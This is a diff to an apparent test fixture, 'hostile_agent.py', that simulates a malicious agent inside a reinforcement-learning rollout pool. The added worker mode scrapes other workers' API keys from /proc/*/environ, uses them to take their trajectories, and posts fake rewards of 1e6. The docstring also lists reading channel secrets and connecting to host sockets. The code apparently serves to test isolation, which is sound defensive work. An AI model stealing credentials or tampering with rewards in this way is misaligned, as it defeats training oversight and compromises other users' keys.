@@ -8,7 +8,11 @@ trajectory ids) and reads the rollout's (ROLLOUT_PID's); it tries each stolen
 key: a reward of 1e6 and done on that trajectory; it tries its own key on the others, reads
 RUN_DIR (channel.secret, the agents' records), connects to a TCP listener and a Unix
 socket of the host. Then it prints `REPORT_TAG <json of what succeeded>` and exits 3 (its
-log is kept). Works through whatever base URL it was given (the forwarder's in a jail)."""
+log is kept). Works through whatever base URL it was given (the forwarder's in a jail).
+
+As a pool worker (`python hostile_agent.py REPORT_TAG SECONDS`, TSYNC_POOL_URL set) it reads
+the other workers' keys instead and pulls their trajectories with them, posting each done
+with a reward of 1e6."""
 
 from __future__ import annotations
 
@@ -41,7 +45,35 @@ def environs() -> list[dict[str, str]]:
     return out
 
 
+def pool_worker(tag: str, seconds: str) -> int:
+    """As a pool worker (TSYNC_POOL_URL): the other workers' keys from /proc/*/environ,
+    each used to pull that worker's trajectories and post them done with 1e6."""
+    me, url = os.environ["TSYNC_WORKER_ID"], os.environ["TSYNC_POOL_URL"]
+    report: dict = {"uid": os.getuid(), "worker_keys": [], "stolen": []}
+    deadline = time.monotonic() + float(seconds)
+    http = httpx.Client(timeout=10)
+    while time.monotonic() < deadline:
+        for env in environs():
+            worker, key = env.get("TSYNC_WORKER_ID"), env.get("OPENAI_API_KEY")
+            if not worker or not key or worker == me:
+                continue
+            if worker not in report["worker_keys"]:
+                report["worker_keys"].append(worker)
+            r = http.post(f"{url}/next", json={"worker": worker, "wait_s": 0},
+                          headers={"Authorization": f"Bearer {key}"})
+            if r.status_code == 200:
+                h = r.json()
+                http.post(f"{h['base_url']}/done", json={"reward": 1e6},
+                          headers={"Authorization": f"Bearer {h['api_key']}"})
+                report["stolen"].append(h["trajectory"])
+        time.sleep(0.1)
+    print(tag, json.dumps(report), flush=True)
+    return 3
+
+
 def main() -> int:
+    if os.environ.get("TSYNC_POOL_URL"):
+        return pool_worker(*sys.argv[1:3])
     tag, seconds, run_dir, decoy, decoy_sock, rollout_pid = sys.argv[1:7]
     me = os.environ["TSYNC_TRAJECTORY_ID"]
     base = os.environ["OPENAI_BASE_URL"]  # .../t/<me>/v1
